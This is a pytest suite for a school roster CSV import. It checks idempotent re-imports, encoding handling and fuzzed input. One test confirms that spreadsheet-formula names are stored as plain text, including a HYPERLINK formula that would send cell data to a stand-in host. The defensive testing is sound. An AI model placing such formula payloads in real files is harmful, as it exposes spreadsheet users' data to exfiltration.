"""Lists that real programs wrote, and names that are no names: each goes through the form twice, and once is enough."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from starlette.testclient import TestClient

from app.config import ROOT
from app.models import Event, ExternalId, Membership, Person
from app.roster.rows import key
from tests.routers.test_roster import do, look, preview_of, upload
from tests.web import Site, says

DATA = ROOT.parent / "shared" / "data"
ROSTERS = DATA / "rosters"
FORMULAS = DATA / "text" / "csv_formula_names.txt"

real = pytest.mark.skipif(
    not DATA.exists(),
    reason="The real lists are no part of the project: they lie in ../shared/data, which is not here.",
)


@pytest.fixture
def lund(site: Site) -> TestClient:
    """Mrs. Lund's browser."""
    return site.as_(site.cast.lund)


def rows(site: Site) -> list[int]:
    """How many rows there are of what an import writes."""
    return [site.count(table) for table in (Person, Membership, ExternalId, Event)]


def names(site: Site) -> set[str]:
    return {row.name for row in site.all(Person) if isinstance(row, Person)}


@real
@pytest.mark.parametrize(
    ("file", "columns", "people"),
    [
        ("duplicate-headers.csv", ["number", "name", "", ""], {"John", "Julie"}),
        ("issue-1009-semicolon.csv", ["number", "name"], {"c"}),
        ("latin1.csv", ["number", "name"], {"english", "©"}),
        ("test_utf16_little.csv", ["number", "", "name"], {"3", "ʤ"}),
        ("test_utf8_bom.csv", ["number", "goes-by", "name"], {"3", "ʤ"}),
    ],
)
def test_a_real_list_is_imported_once(
    site: Site, lund: TestClient, file: str, columns: list[str], people: set[str]
) -> None:
    content = (ROSTERS / file).read_bytes()
    for round_ in ("first", "second"):
        before = rows(site)
        shown = upload(lund, content)
        assert shown.status_code == 422, "None of these files names a class."
        shown = preview_of(shown).press(lund, "Read it again", column=columns, classroom="8b")
        assert shown.status_code == 200
        if round_ == "first":
            assert do(lund, shown).status_code == 303
            assert people <= names(site)
        else:
            assert "Nothing changes: everyone of the list is here, just so." in says(shown.text)
            assert rows(site) == before


@real
def test_every_plain_list_is_tried() -> None:
    marks = next(mark for mark in test_a_real_list_is_imported_once.pytestmark if mark.name == "parametrize")  # type: ignore[attr-defined]
    assert {path.name for path in ROSTERS.glob("*.csv")} == {case[0] for case in marks.args[1]}


@real
def test_a_onerosters_zip_is_told_from_a_list(lund: TestClient) -> None:
    for path in ROSTERS.glob("*.zip"):
        assert upload(lund, path.read_bytes()).status_code == 422


@real
def test_names_that_a_spreadsheet_would_calculate_are_kept_as_they_are(site: Site, lund: TestClient) -> None:
    formulas = [name for name in FORMULAS.read_bytes().decode().split("\n") if name.strip()]
    quoted = "".join('"{}",Period 3\n'.format(name.replace('"', '""')) for name in formulas)
    before = site.count(Person)
    assert do(lund, look(lund, f"Name,Class\n{quoted}")).status_code == 303
    # Blanks around a name and full-width signs make no other person.
    assert {key(name) for name in formulas} <= {key(name) for name in names(site)}
    assert '=HYPERLINK("http://x.test?"&A1,"click")' in names(site)
    assert site.count(Person) == before + len({key(name) for name in formulas})
    assert "new student" not in says(look(lund, f"Name,Class\n{quoted}").text)


TEXTS = st.text(st.sampled_from("Ana, Bo;\t\n\r\"'=1\x00é李{}%<&") | st.characters(), max_size=60)
HEADED = TEXTS.map(lambda text: f"Name,Class,Role,E-mail,Language,ID,Teacher\n{text}")
CELL = st.text(st.sampled_from("aZ é'-=<&\x00\u202e"), max_size=5)
ROW = st.tuples(CELL, st.sampled_from(["Period 3", "7", ""]), st.sampled_from(["", "teacher"]), CELL).map(",".join)
FILLED = st.lists(ROW, max_size=6).map(lambda lines: "Name,Class,Role,Goes by\n" + "\n".join(lines))


@given(TEXTS | HEADED | FILLED, st.sampled_from(["utf-8", "utf-16", "utf-16-be", "cp1252"]))
@settings(max_examples=120)
def test_any_text_is_shown_or_refused_and_changes_nothing_the_second_time(
    site: Site, lund: TestClient, text: str, encoding: str
) -> None:
    content = text.encode(encoding, errors="replace")
    shown = upload(lund, content, classroom="8b")
    assert shown.status_code in {200, 422}
    if shown.status_code == 422 or "Import the list" not in preview_of(shown).buttons:
        return
    assert do(lund, shown, without_broken="yes").status_code == 303
    before = rows(site)
    again = upload(lund, content, classroom="8b")
    assert again.status_code == 200
    assert "new student" not in says(again.text)
    if "Import the list" in preview_of(again).buttons:
        assert do(lund, again, without_broken="yes").status_code == 303
    assert rows(site) == before
